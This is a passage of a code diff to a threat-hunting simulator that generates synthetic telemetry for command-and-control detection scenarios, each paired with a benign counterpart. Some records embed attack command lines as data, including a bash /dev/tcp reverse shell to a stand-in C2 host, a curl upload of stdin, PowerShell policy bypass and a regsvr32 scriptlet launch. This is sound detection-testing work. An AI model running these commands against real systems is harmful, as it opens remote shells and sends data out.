@@ -20,6 +20,7 @@ reference's known false positives, each suppressed by a documented allowlist ent
 analytics (AN1228, AN1225).
 """
 import collections
+import hashlib
 import struct
 
 from c2hunt_sim.world import Host, Recorder
@@ -43,6 +44,27 @@ CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
 EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
 
 SCENARIOS = collections.OrderedDict()
+
+# Socket table fields of c2sockets records (what the kernel's tables say about a socket).
+RAW_ICMP_SOCKET = {"table": "raw", "transport": "raw", "family": "ipv4", "socket_type": "raw",
+                   "local_ip": "0.0.0.0", "local_port": 1, "remote_ip": "0.0.0.0",
+                   "remote_port": 0, "state": "close", "ip_protocol": 1,
+                   "ip_protocol_name": "icmp"}
+ICMP_DATAGRAM_SOCKET = {"table": "icmp", "transport": "icmp", "family": "ipv4",
+                        "socket_type": "dgram", "local_ip": "0.0.0.0", "local_port": 3,
+                        "remote_ip": "0.0.0.0", "remote_port": 0, "state": "close"}
+SNIFFER_SOCKET = {"table": "packet", "transport": "packet", "family": "packet",
+                  "socket_type": "raw", "ethertype": "0x0003", "ethertype_name": "all",
+                  "interface_index": 2}
+
+
+def _vsock(state, local_port, remote_cid=-1, remote_port=-1, local_cid=-1):
+    """vsock table fields as vsock_diag reports them (-1: VMADDR_CID_ANY / PORT_ANY)."""
+    names = {-1: "any", 0: "hypervisor", 1: "local", 2: "host"}
+    return {"table": "vsock", "transport": "vsock", "family": "vsock", "socket_type": "stream",
+            "state": state, "local_cid": local_cid, "local_cid_name": names.get(local_cid, "guest"),
+            "local_port": local_port, "remote_cid": remote_cid,
+            "remote_cid_name": names.get(remote_cid, "guest"), "remote_port": remote_port}
 
 
 def scenario(function):
@@ -124,6 +146,8 @@ def s4_ptunnel_ng_icmp_tunnel(rec, t0):
                             ["ptunnel-ng", "-p198.51.100.7", "-l2222", "-r127.0.0.1", "-R22"],
                             uid=0, auid=1000, ppid=shell["pid"])
     rec.linux_socket(host, t0 + 0.04, tunnel, "inet", "raw", "icmp")
+    # Where c2sockets runs instead of auditd: the raw ICMP socket in every pass it is held.
+    rec.held_socket(host, tunnel, RAW_ICMP_SOCKET, t0 + 30, t0 + 600)
     # 64-byte payloads both ways at 2 packets/s for 10 minutes: one Zeek ICMP connection,
     # and the egress capture. ptunnel-ng's payload: magic 0xdeadc0de, then its header
     # (destination, state, ack, length, sequence), then encrypted SSH bytes; the proxy's
@@ -286,6 +310,8 @@ def benign_background(rec, t0):
     ping = rec.linux_exec(lnx, t0 + 100, "/usr/bin/ping", ["ping", "-c", "3", GATEWAY],
                           uid=1000, auid=1000)
     rec.linux_socket(lnx, t0 + 100.01, ping, "inet", "dgram", "icmp")
+    rec.held_socket(lnx, ping, ICMP_DATAGRAM_SOCKET, t0 + 101, t0 + 101,
+                    package="iputils-ping")
     rec.zeek_conn(t0 + 100.02, lnx.ip, 8, GATEWAY, 0, "icmp", duration=2.0, orig_bytes=168,
                   resp_bytes=168, orig_pkts=3, resp_pkts=3)
     chrony = rec.linux_daemon("/usr/sbin/chronyd", ["/usr/sbin/chronyd", "-F", "1"], uid=0)
@@ -308,6 +334,11 @@ def benign_background(rec, t0):
     tcpdump = rec.linux_exec(lnx, t0 + 1200, "/usr/bin/tcpdump",
                              ["tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap"], uid=0, auid=1000)
     rec.linux_socket(lnx, t0 + 1200.01, tcpdump, "packet", "raw", "eth_p_all")
+    rec.held_socket(lnx, tcpdump, SNIFFER_SOCKET, t0 + 1230, t0 + 1800, package="tcpdump")
+    # A VMware guest: VMware Tools' own vsock connection to the ESXi host (context id 2).
+    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
+    rec.held_socket(lnx, tools, _vsock("established", 976, 2, 976, local_cid=1057), t0 + 30,
+                    t0 + 1800, package="open-vm-tools")
     for i in range(8):
         name = rec.rng.choice(["deb.debian.org", "security.debian.org", "example.org",
                                "pool.ntp.org"])
@@ -568,14 +599,18 @@ def fp_esxi_backup_guest_ops(rec, t0):
                      vpxa_user="CORP\\svc-veeam")
 
 def _open_socket(rec, host, when, pid, path, family, protocol, remote=("0.0.0.0", 0),
-                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501):
-    """A process_open_sockets row (the query joins processes for name, path and cmdline)."""
-    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", collections.OrderedDict([
+                 local=("0.0.0.0", 0), state="", cmdline=None, uid=501, parent=None):
+    """A process_open_sockets row (the query joins processes for name, path and cmdline, and
+    the parent process for its pid and path when ``parent`` = (pid, path) is given)."""
+    columns = collections.OrderedDict([
         ("pid", pid), ("name", path.rsplit("/", 1)[-1]), ("path", path),
         ("cmdline", cmdline or path), ("uid", uid), ("fd", 3 + pid % 7),
         ("socket", 1000000 + pid), ("family", family), ("protocol", protocol),
         ("local_address", local[0]), ("local_port", local[1]),
-        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)]))
+        ("remote_address", remote[0]), ("remote_port", remote[1]), ("state", state)])
+    if parent is not None:
+        columns["parent"], columns["parent_path"] = parent
+    rec.osquery(host, when, "pack_c2hunt_process_open_sockets", columns)
 
 
 def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2,
@@ -586,6 +621,16 @@ def _socket_event(rec, host, when, pid, path, remote, action="connect", family=2
         ("status", status), ("family", family), ("protocol", 6), ("local_address", ""),
         ("local_port", 0), ("remote_address", remote[0]), ("remote_port", remote[1]),
         ("time", int(when))]))
+
+
+def _es_exec(rec, host, when, pid, path, cmdline, parent, uid=501):
+    """An es_process_events exec row (macOS EndpointSecurity), the query joining the parent's
+    path from processes (``parent`` = (pid, path))."""
+    rec.osquery(host, when, "pack_c2hunt_es_process_events", collections.OrderedDict([
+        ("event_type", "exec"), ("pid", pid), ("path", path), ("cmdline", cmdline),
+        ("parent", parent[0]), ("parent_path", parent[1]), ("uid", uid),
+        ("signing_id", "com.apple." + path.rsplit("/", 1)[-1]), ("team_id", ""),
+        ("platform_binary", 1), ("time", int(when))]))
 
 
 @scenario
@@ -803,6 +848,487 @@ def benign_tunnels_and_admin_forwards(rec, t0):
     rec.zeek_dns(t0 + 30, ws.ip, "10.20.0.53", "ngrok.com", "A", answers=("54.161.241.46",))
     rec.zeek_dns(t0 + 31, ws.ip, "10.20.0.53", "dashboard.ngrok.com.cdn.cloudflare.net", "A",
                  answers=("104.18.1.1",))
+
+
+@scenario
+def x8_vmci_backdoor_sockets(rec, t0):
+    """VMCI/vsock backdoors (AN1257) on a Linux hypervisor host that runs VMware's stack
+    (ESXi-like: vmtoolsd and VMware's helpers hold vsock sockets there by design), seen by
+    the c2sockets input: a VIRTUALPITA-style implant named vmtoolsd but run from /tmp,
+    listening on vsock port 18098 for the guests; a VIRTUALPIE-style Python backdoor
+    listening on vsock; socat (a packaged relay) holding a vsock connection to a guest. The
+    genuine vmtoolsd and VGAuthService on the same host stay quiet, and so does tcpdump."""
+    host = Host("vmhost01.corp.example", "10.20.9.21", "linux")
+    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
+    rec.held_socket(host, tools, _vsock("established", 976, 2, 976, local_cid=3), t0, t0 + 900,
+                    package="open-vm-tools")
+    vgauth = rec.linux_daemon("/usr/bin/VGAuthService", ["/usr/bin/VGAuthService", "-s"], uid=0)
+    rec.held_socket(host, vgauth, _vsock("listen", 1021), t0, t0 + 900, package="open-vm-tools")
+    shell = rec.linux_daemon("/usr/bin/bash", ["-bash"], uid=0)
+    implant = rec.linux_exec(host, t0 + 100, "/tmp/vmtoolsd", ["/tmp/vmtoolsd", "-p", "18098"],
+                             uid=0, auid=0, ppid=shell["pid"])
+    rec.held_socket(host, implant, _vsock("listen", 18098), t0 + 120, t0 + 900)
+    python = rec.linux_exec(host, t0 + 200, "/usr/bin/python3.10",
+                            ["python3", "/usr/lib/vmware/.vmcl/vmsyslogd.py", "-p", "8888"],
+                            uid=0, auid=0, ppid=shell["pid"])
+    rec.held_socket(host, python, _vsock("listen", 8888), t0 + 240, t0 + 900,
+                    package="python3.10-minimal")
+    relay = rec.linux_exec(host, t0 + 300, "/usr/bin/socat",
+                           ["socat", "VSOCK-CONNECT:15:22", "TCP-LISTEN:2222,fork"],
+                           uid=0, auid=0, ppid=shell["pid"])
+    rec.held_socket(host, relay, _vsock("established", 40022, 15, 22, local_cid=2), t0 + 300,
+                    t0 + 900, package="socat")
+    tcpdump = rec.linux_daemon("/usr/bin/tcpdump", ["tcpdump", "-ni", "any", "-w", "/tmp/a.pcap"])
+    rec.held_socket(host, tcpdump, SNIFFER_SOCKET, t0, t0 + 900, package="tcpdump")
+
+
+@scenario
+def benign_hypervisor_agents(rec, t0):
+    """What holds vsock sockets on ordinary virtual machines and must not raise AN1257:
+    VMware Tools in a VMware guest, systemd's vsock listener for ssh (systemd 256+) and the
+    QEMU guest agent on a KVM guest, the Kata agent in a sandbox VM; ping and tcpdump for
+    the raw and packet socket search (AN1255)."""
+    vm = Host("app40.corp.example", "10.20.4.40", "linux")
+    tools = rec.linux_daemon("/usr/bin/vmtoolsd", ["/usr/bin/vmtoolsd"], uid=0)
+    rec.held_socket(vm, tools, _vsock("established", 980, 2, 976, local_cid=1040), t0, t0 + 600,
+                    package="open-vm-tools")
+    kvm = Host("app41.corp.example", "10.20.4.41", "linux")
+    systemd = rec.linux_daemon("/usr/lib/systemd/systemd", ["/sbin/init"], uid=0, pid=1)
+    rec.held_socket(kvm, systemd, _vsock("listen", 22), t0, t0 + 600, package="systemd")
+    agent = rec.linux_daemon("/usr/bin/qemu-ga", ["/usr/bin/qemu-ga", "--method=vsock-listen"])
+    rec.held_socket(kvm, agent, _vsock("listen", 1234), t0, t0 + 600, package="qemu-guest-agent")
+    ping = rec.linux_daemon("/usr/bin/ping", ["ping", "10.20.0.1"], uid=1000)
+    rec.held_socket(kvm, ping, ICMP_DATAGRAM_SOCKET, t0 + 60, t0 + 300, package="iputils-ping")
+    tcpdump = rec.linux_daemon("/usr/bin/tcpdump", ["tcpdump", "-i", "eth0"])
+    rec.held_socket(kvm, tcpdump, SNIFFER_SOCKET, t0 + 60, t0 + 300, package="tcpdump")
+    sandbox = Host("kata07.corp.example", "10.20.4.47", "linux")
+    kata = rec.linux_daemon("/usr/bin/kata-agent", ["/usr/bin/kata-agent"], uid=0)
+    rec.held_socket(sandbox, kata, _vsock("listen", 1024), t0, t0 + 600)
+
+
+@scenario
+def x8_unix_scripted_app_c2(rec, t0):
+    """Application-layer C2 scripted with the tools every Unix host has (AN1226, AN1227): a
+    Python implant in /tmp polling its HTTPS listener on 8443 every minute and uploading
+    archives (Sysmon for Linux through syslog, and the Zeek sensor's conn.log); a bash /dev/tcp reverse shell and a Perl IRC bot run from /var/tmp
+    (auditd); on a Mac, an Automator application whose shell step runs curl against its
+    server every 30 s (osquery es_process_events and socket_events, and process_open_sockets
+    with the parent)."""
+    lnx = Host("lnx31.corp.example", "10.20.2.51", "linux")
+    implant = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                       "python3 /tmp/.X11-cache/update.py", "www-data")
+    for beat in range(20):
+        # check-ins fetch a small task; every fifth one uploads a collected archive
+        upload = 900000 if beat % 5 == 4 else rec.rng.randint(700, 900)
+        rec.linux_sysmon_connection(lnx, implant, t0 + 2 + 60.0 * beat + rec.rng.uniform(-6, 6),
+                                    "tcp", "198.51.100.71", 8443,
+                                    zeek={"service": "ssl", "duration": 0.8,
+                                          "orig_bytes": upload,
+                                          "resp_bytes": rec.rng.randint(300, 500)})
+    shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
+    shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
+                           ["bash", "-c", "exec 5<>/dev/tcp/upd.example-c2.net/443; cat <&5 | bash >&5"],
+                           uid=33, auid=4294967295)
+    # bash resolves the redirection's host name itself (glibc connects its UDP socket to the
+    # resolver), then connects to the handler
+    rec.linux_connect(shell_host, t0 + 30.005, shell, RESOLVER, 53)
+    rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
+    bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
+                         uid=33, auid=4294967295)
+    rec.linux_connect(shell_host, t0 + 90.2, bot, "198.51.100.73", 6667)
+    mac = Host("mac33.corp.example", "10.20.6.33", "macos")
+    stub = ("/Users/ana/Downloads/Invoice Viewer.app/Contents/MacOS/Automator Application Stub")
+    for beat in range(12):
+        when = t0 + 40 + 30.0 * beat + rec.rng.uniform(-2, 2)
+        pid = 8800 + 3 * beat
+        _es_exec(rec, mac, when - 0.05, pid, "/usr/bin/curl",
+                 "curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync",
+                 parent=(8790, stub))
+        _socket_event(rec, mac, when, pid, "/usr/bin/curl", ("198.51.100.72", 443))
+        if beat == 0:
+            _open_socket(rec, mac, when + 0.2, pid, "/usr/bin/curl", 2, 6,
+                         remote=("198.51.100.72", 443), local=("10.20.6.33", 52011),
+                         state="ESTABLISHED", parent=(8790, stub),
+                         cmdline="curl -s -X POST --data-binary @- https://198.51.100.72/api/v2/sync")
+
+
+@scenario
+def benign_unix_scripted_tools(rec, t0):
+    """The quiet counterpart of x8: the same tools doing everyday work. pip and curl fetching
+    from outside servers on 443 (a few irregular connections), a Python monitoring agent
+    reporting every 15 s to the internal collector on 8443, Azure's Linux agent (Python)
+    polling the WireServer, a curl health-check loop against an internal service (its name
+    lookups go to a public resolver), netcat checking an internal port
+    (Sysmon for Linux, auditd); on a Mac, curl from Terminal, Homebrew fetching bottles and
+    mDNSResponder on 5353 multicast (osquery)."""
+    lnx = Host("lnx41.corp.example", "10.20.2.61", "linux")
+    pip = rec.linux_sysmon_process(lnx, t0, "/usr/bin/python3.11",
+                                   "python3 -m pip install --upgrade requests", "dev")
+    for k, delay in enumerate((1.0, 1.4, 2.9, 3.1, 7.5)):
+        rec.linux_sysmon_connection(lnx, pip, t0 + delay, "tcp", "151.101.0.223", 443)
+    curl = rec.linux_sysmon_process(lnx, t0 + 60, "/usr/bin/curl",
+                                    "curl -fsSL https://github.com/cli/cli/releases/latest", "dev")
+    rec.linux_sysmon_connection(lnx, curl, t0 + 60.3, "tcp", "140.82.112.3", 443)
+    agent = rec.linux_sysmon_process(lnx, t0 + 5, "/usr/bin/python3.11",
+                                     "python3 /opt/monitoring/agent.py --collector 10.20.0.40:8443",
+                                     "monitor")
+    for beat in range(60):
+        rec.linux_sysmon_connection(lnx, agent, t0 + 6 + 15.0 * beat, "tcp", "10.20.0.40", 8443)
+    # on an Azure VM, the Linux agent (Python) polls the WireServer every 10 s
+    waagent = rec.linux_sysmon_process(lnx, t0 + 3, "/usr/bin/python3.11",
+                                       "python3 -u /usr/sbin/waagent -run-exthandlers", "root")
+    for beat in range(40):
+        rec.linux_sysmon_connection(lnx, waagent, t0 + 4 + 10.0 * beat, "tcp", "168.63.129.16", 80)
+    admin = Host("lnx42.corp.example", "10.20.2.62", "linux")
+    nc = rec.linux_exec(admin, t0 + 20, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.0.20", "445"])
+    rec.linux_connect(admin, t0 + 20.1, nc, "10.20.0.20", 445)
+    wget = rec.linux_exec(admin, t0 + 40, "/usr/bin/wget",
+                          ["wget", "https://downloads.example.org/tool-1.2.tar.gz"])
+    rec.linux_connect(admin, t0 + 40.3, wget, "93.184.216.34", 443)
+    # a health check run by a shell loop every minute on a host that resolves through a
+    # public resolver: glibc connects curl's UDP socket to 1.1.1.1:53 before each request
+    # to the internal service
+    for beat in range(15):
+        check = rec.linux_exec(admin, t0 + 100 + 60.0 * beat, "/usr/bin/curl",
+                               ["curl", "-fsS", "http://app01.corp.example:8080/health"])
+        rec.linux_connect(admin, t0 + 100.01 + 60.0 * beat, check, "1.1.1.1", 53)
+        rec.linux_connect(admin, t0 + 100.05 + 60.0 * beat, check, "10.20.0.31", 8080)
+    mac = Host("mac43.corp.example", "10.20.6.43", "macos")
+    _socket_event(rec, mac, t0 + 10, 9101, "/usr/bin/curl", ("140.82.112.3", 443))
+    _open_socket(rec, mac, t0 + 10.2, 9101, "/usr/bin/curl", 2, 6, remote=("140.82.112.3", 443),
+                 local=("10.20.6.43", 50433), state="ESTABLISHED", parent=(9002, "/bin/zsh"),
+                 cmdline="curl -O https://github.com/jqlang/jq/releases/download/jq-1.7/jq-macos-arm64")
+    for k, delay in enumerate((100.0, 100.4, 101.9, 130.2)):
+        _socket_event(rec, mac, t0 + delay, 9150 + k, "/usr/bin/curl", ("140.82.121.34", 443))
+    _open_socket(rec, mac, t0 + 200, 377, "/usr/sbin/mDNSResponder", 2, 17,
+                 local=("10.20.6.43", 5353), remote=("224.0.0.251", 5353), uid=65)
+
+
+def _signature(rec, host, when, path, signed, identifier="", team="", authority=""):
+    """A signature-table row for one program (macOS code signing: ``signed`` 0/1, the
+    signing identifier, team identifier and leaf authority; ad-hoc signatures have neither a
+    team nor an authority)."""
+    rec.osquery(host, when, "pack_c2hunt_signature", collections.OrderedDict([
+        ("path", path), ("hash_resources", 1), ("arch", "arm64"), ("signed", signed),
+        ("identifier", identifier),
+        ("cdhash", hashlib.sha1(path.encode()).hexdigest() if signed else ""),
+        ("team_identifier", team), ("authority", authority)]))
+
+
+@scenario
+def x9_macos_unsigned_non_standard_protocol(rec, t0):
+    """AN1256 with code signing: on a Mac, an unsigned implant in Application Support talking
+    UDP to a custom port; an ad-hoc-signed reverse SOCKS proxy built on the host; an unsigned
+    copy of ping in /private/tmp holding an ICMP socket (its name passes the raw-socket
+    allowlist, its signature does not); a Python script speaking UDP to an odd port."""
+    mac = Host("mac34.corp.example", "10.20.6.34", "macos")
+    implant = "/Users/ben/Library/Application Support/.helper/helperd"
+    _signature(rec, mac, t0, implant, 0)
+    _open_socket(rec, mac, t0 + 1, 6610, implant, 2, 17, remote=("198.51.100.80", 53535),
+                 local=("10.20.6.34", 61022), cmdline=implant)
+    proxy = "/Users/ben/.local/bin/rsocx"
+    _signature(rec, mac, t0 + 30, proxy, 1, identifier="rsocx-55554944a1b2c3d4")
+    _socket_event(rec, mac, t0 + 31, 6655, proxy, ("203.0.113.82", 1080))
+    fake_ping = "/private/tmp/ping"
+    _signature(rec, mac, t0 + 60, fake_ping, 0)
+    _open_socket(rec, mac, t0 + 61, 6690, fake_ping, 2, 1, cmdline="/private/tmp/ping -i 5 198.51.100.80")
+    _signature(rec, mac, t0 + 90, "/usr/bin/python3", 1, identifier="com.apple.python3",
+               authority="Software Signing")
+    _open_socket(rec, mac, t0 + 91, 6720, "/usr/bin/python3", 2, 17,
+                 remote=("203.0.113.81", 9999), local=("10.20.6.34", 60111),
+                 cmdline="/usr/bin/python3 /Users/ben/.local/share/sync.py")
+
+
+@scenario
+def benign_macos_signed_network(rec, t0):
+    """The quiet counterpart of x9: Apple's ping (signed, allowlisted), Zoom on its UDP media
+    port, Tailscale (Developer ID) on its WireGuard UDP port, a Homebrew tool (ad-hoc
+    signed on Apple silicon) on HTTPS and DNS, mDNSResponder on multicast."""
+    mac = Host("mac44.corp.example", "10.20.6.44", "macos")
+    _signature(rec, mac, t0, "/sbin/ping", 1, identifier="com.apple.ping",
+               authority="Software Signing")
+    _open_socket(rec, mac, t0 + 1, 901, "/sbin/ping", 2, 1, cmdline="ping -c 3 10.20.0.1")
+    zoom = "/Applications/zoom.us.app/Contents/MacOS/zoom.us"
+    _signature(rec, mac, t0 + 10, zoom, 1, identifier="us.zoom.xos", team="BJ4HAAB9B3",
+               authority="Developer ID Application: Zoom Video Communications, Inc. (BJ4HAAB9B3)")
+    _open_socket(rec, mac, t0 + 11, 1201, zoom, 2, 17, remote=("170.114.52.2", 8801),
+                 local=("10.20.6.44", 62001))
+    tailscale = "/Applications/Tailscale.app/Contents/PlugIns/IPNExtension.appex/Contents/MacOS/IPNExtension"
+    _signature(rec, mac, t0 + 20, tailscale, 1, identifier="io.tailscale.ipn.macsys.network-extension",
+               team="W5364U7YZB", authority="Developer ID Application: Tailscale Inc. (W5364U7YZB)")
+    _open_socket(rec, mac, t0 + 21, 1301, tailscale, 2, 17, remote=("198.51.100.200", 41641),
+                 local=("10.20.6.44", 41641))
+    brew = "/opt/homebrew/Cellar/wget/1.24.5/bin/wget"
+    _signature(rec, mac, t0 + 30, brew, 1, identifier="wget")
+    _open_socket(rec, mac, t0 + 31, 1401, brew, 2, 6, remote=("93.184.216.34", 443),
+                 local=("10.20.6.44", 50211), state="ESTABLISHED")
+    dig = "/opt/homebrew/Cellar/bind/9.18.24/bin/dig"
+    _signature(rec, mac, t0 + 40, dig, 1, identifier="dig")
+    _open_socket(rec, mac, t0 + 41, 1501, dig, 2, 17, remote=("10.20.0.53", 53),
+                 local=("10.20.6.44", 53001))
+    _open_socket(rec, mac, t0 + 50, 377, "/usr/sbin/mDNSResponder", 2, 17,
+                 local=("10.20.6.44", 5353), remote=("224.0.0.251", 5353), uid=65)
+
+
+@scenario
+def x10_sysmon_dns_tunnel_process(rec, t0):
+    """AN1228 on the endpoint (Sysmon Event ID 22): a Cobalt Strike-style DNS beacon injected
+    into rundll32 checks in with short A-record polls (api.<hex id>) and sends data in
+    hex-encoded labels (post.<hex>.<hex>) through the Windows DNS client; a PowerShell DNS
+    channel with short machine-made labels (counter and chunk) to another domain. Sysmon names
+    the program that asked; the resolver's network sensor would only see the DNS server."""
+    ws = Host("ws35.corp.example", "10.20.1.35", "windows")
+    user = "CORP\\omar"
+    beacon = rec.windows_process(ws, t0, "C:\\Windows\\System32\\rundll32.exe",
+                                 "C:\\Windows\\System32\\rundll32.exe", user)
+    session = "".join(rec.rng.choice("0123456789abcdef") for _ in range(8))
+    for i in range(40):
+        when = t0 + 5 + 45.0 * i + rec.rng.uniform(-3, 3)
+        rec.windows_dns_query(ws, beacon, when, "api.%s.%x.static-cdn-edge.example-c2.net"
+                              % (session, 0x10 + i), results="::ffff:0.0.0.0;")
+        if i % 4 == 1:
+            for chunk in range(3):
+                data = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
+                rec.windows_dns_query(ws, beacon, when + 1 + 0.3 * chunk,
+                                      "post.%s.%s.%s.static-cdn-edge.example-c2.net"
+                                      % (data[:28], data[28:], session),
+                                      results="::ffff:0.0.0.0;")
+    shell = rec.windows_process(ws, t0 + 60, POWERSHELL,
+                                "powershell.exe -nop -w hidden -File C:\\Users\\Public\\dns.ps1", user)
+    for i in range(30):
+        chunk = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(10))
+        rec.windows_dns_query(ws, shell, t0 + 70 + 20.0 * i, "r%d.%s.tx.example-c2.org"
+                              % (i, chunk), status=9003, results="-")
+
+
+@scenario
+def benign_sysmon_dns_queries(rec, t0):
+    """The quiet counterpart of x10: what Sysmon Event ID 22 shows every day. A browser
+    resolving many names (CDNs on the allowlist, sites with short human-picked names), Chrome's
+    random single-label probes, Defender's reputation lookups, the domain controller's SRV
+    names, Outlook and Teams, and many hosts resolving a few machine-made host names in the
+    company's own zone."""
+    ws = Host("ws45.corp.example", "10.20.1.45", "windows")
+    user = "CORP\\ines"
+    chrome = rec.windows_process(ws, t0, CHROME, '"%s"' % CHROME, user)
+    sites = ["www.wikipedia.org", "en.wikipedia.org", "upload.wikimedia.org", "www.bbc.co.uk",
+             "static.files.bbci.co.uk", "news.ycombinator.com", "github.com", "api.github.com",
+             "avatars.githubusercontent.com", "www.google.com", "fonts.googleapis.com",
+             "fonts.gstatic.com", "www.youtube.com", "i.ytimg.com", "mail.google.com"]
+    for i, site in enumerate(sites):
+        rec.windows_dns_query(ws, chrome, t0 + 2 + 7.0 * i, site, results="::ffff:203.0.113.10;")
+    for i in range(30):
+        edge = "e%d.dscx.akamaiedge.net" % (1000 + 37 * i)
+        rec.windows_dns_query(ws, chrome, t0 + 3 + 11.0 * i, edge, results="::ffff:203.0.113.11;")
+    for i in range(3):
+        probe = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))
+        rec.windows_dns_query(ws, chrome, t0 + 1 + 0.1 * i, probe, status=9003)
+    defender = rec.windows_service(
+        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
+        "MsMpEng.exe")
+    for i in range(12):
+        digest = "".join(rec.rng.choice("0123456789abcdef") for _ in range(32))
+        rec.windows_dns_query(ws, defender, t0 + 20 + 9.0 * i, "%s.%s.sophosxl.net"
+                              % (digest[:16], digest[16:]), results="::ffff:127.0.0.1;")
+    svc = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k NetworkService")
+    for name in ("_ldap._tcp.dc._msdcs.corp.example", "_kerberos._tcp.corp.example",
+                 "wpad.corp.example", "dc01.corp.example"):
+        rec.windows_dns_query(ws, svc, t0 + 30, name, results="10.20.0.10;")
+    outlook = rec.windows_process(ws, t0 + 40, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+                                  "OUTLOOK.EXE", user)
+    for name in ("outlook.office365.com", "autodiscover.corp.example", "substrate.office.com"):
+        rec.windows_dns_query(ws, outlook, t0 + 41, name, results="::ffff:52.96.0.1;")
+    for h in range(8):
+        peer = Host("ws%02d.corp.example" % (50 + h), "10.20.1.%d" % (50 + h), "windows")
+        mstsc = rec.windows_process(peer, t0 + 100 + h, "C:\\Windows\\System32\\mstsc.exe",
+                                    "mstsc.exe", "CORP\\helpdesk%d" % h)
+        for k in range(3):
+            rec.windows_dns_query(peer, mstsc, t0 + 101 + h + k, "desktop-%dk%d%d.corp.example"
+                                  % (h, k, h * 7 % 10), results="10.20.1.%d;" % (60 + k))
+
+
+@scenario
+def x8_web_service_tor_and_framework_defaults(rec, t0):
+    """Web-service C2, Tor outside Tor Browser, C2-framework defaults and LOLBin lookups (issue 15
+    items 3-6): PowerShell polling the Telegram Bot API, a payload in AppData that fetches its
+    next stage from a paste site; a tor.exe dropped into AppData with its own SOCKS port, talking
+    to a relay's ORPort; rundll32 resolving a duckdns name and regsvr32 a DGA-like one; a Cobalt
+    Strike beacon in rundll32 with its default post-ex and SMB pipes and its DNS stager;
+    an Empire agent's default profile in Zeek http; a Linux host leaking a .onion name into DNS."""
+    ws = Host("ws24.corp.example", "10.20.1.24", "windows")
+    user = "CORP\\ana"
+    parent = _cmd_parent(rec, ws, t0, user)
+    ps = rec.windows_process(ws, t0 + 5, POWERSHELL,
+                             "powershell.exe -w hidden -nop -ep bypass -f C:\\Users\\ana\\AppData\\Local\\Temp\\tg.ps1",
+                             user, parent=parent)
+    for k in range(3):
+        rec.windows_dns_query(ws, ps, t0 + 10 + 300 * k, "api.telegram.org", answers=("149.154.167.220",))
+    payload = rec.windows_process(ws, t0 + 20, "C:\\Users\\ana\\AppData\\Roaming\\Adobe\\AdobeUpd.exe",
+                                  "AdobeUpd.exe /silent", user, parent=parent)
+    rec.windows_dns_query(ws, payload, t0 + 21, "pastebin.com", answers=("104.20.67.143",))
+    tor = rec.windows_process(ws, t0 + 40, "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Network\\tor.exe",
+                              "tor.exe --SocksPort 127.0.0.1:9250 --quiet", user, parent=payload)
+    rec.windows_connection(ws, tor, t0 + 42, "tcp", "185.220.101.4", 9001)
+    rundll = rec.windows_process(ws, t0 + 60, "C:\\Windows\\System32\\rundll32.exe",
+                                 "rundll32.exe C:\\Users\\ana\\AppData\\Local\\Temp\\upd.dll,Start", user, parent=parent)
+    rec.windows_dns_query(ws, rundll, t0 + 61, "update-check.duckdns.org", answers=("198.51.100.40",))
+    regsvr = rec.windows_process(ws, t0 + 80, "C:\\Windows\\System32\\regsvr32.exe",
+                                 "regsvr32.exe /s /i C:\\Users\\ana\\AppData\\Local\\Temp\\x.sct scrobj.dll", user, parent=parent)
+    rec.windows_dns_query(ws, regsvr, t0 + 81, "qxvtkrbwmzpdhl.com", answers=("198.51.100.41",))
+    beacon_host = Host("ws25.corp.example", "10.20.1.25", "windows")
+    beacon = rec.windows_service("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe", user="CORP\\ana")
+    rec.windows_dns_query(beacon_host, beacon, t0 + 100, "aaa.stage.4471093.cdn-edge.example.net",
+                          answers=("0.0.0.0",))
+    rec.windows_pipe(beacon_host, beacon, t0 + 160, "\\postex_3f9a")
+    rec.windows_pipe(beacon_host, beacon, t0 + 220, "\\msagent_4e")
+    empire_ua = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
+    for k, uri in enumerate(("/admin/get.php", "/news.php", "/login/process.php")):
+        rec.zeek_http(t0 + 240 + 60 * k, "10.20.1.26", "203.0.113.77", "GET" if k < 2 else "POST",
+                      "203.0.113.77", uri, empire_ua, response_body_len=210)
+    rec.zeek_dns(t0 + 300, "10.20.2.24", RESOLVER, "vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion",
+                 "A", rcode_name="NXDOMAIN")
+
+
+@scenario
+def benign_web_services_and_tor_browser(rec, t0):
+    """The quiet counterpart of x8: the same services, programs and ports used as intended. Tor
+    Browser from its own folder (its tor to a relay, firefox to the local SOCKS port), Telegram
+    Desktop and Discord with their own services, Chrome on a paste site, OneDrive syncing,
+    PowerShell and certutil on Microsoft's update names, Windows' and Chrome's own named pipes, a
+    browser on a web site's /news.php, a lookup of torproject.org."""
+    ws = Host("ws26.corp.example", "10.20.1.27", "windows")
+    user = "CORP\\lena"
+    name = user.split("\\")[-1]
+    tor = rec.windows_process(ws, t0 + 5, TOR_EXE % name,
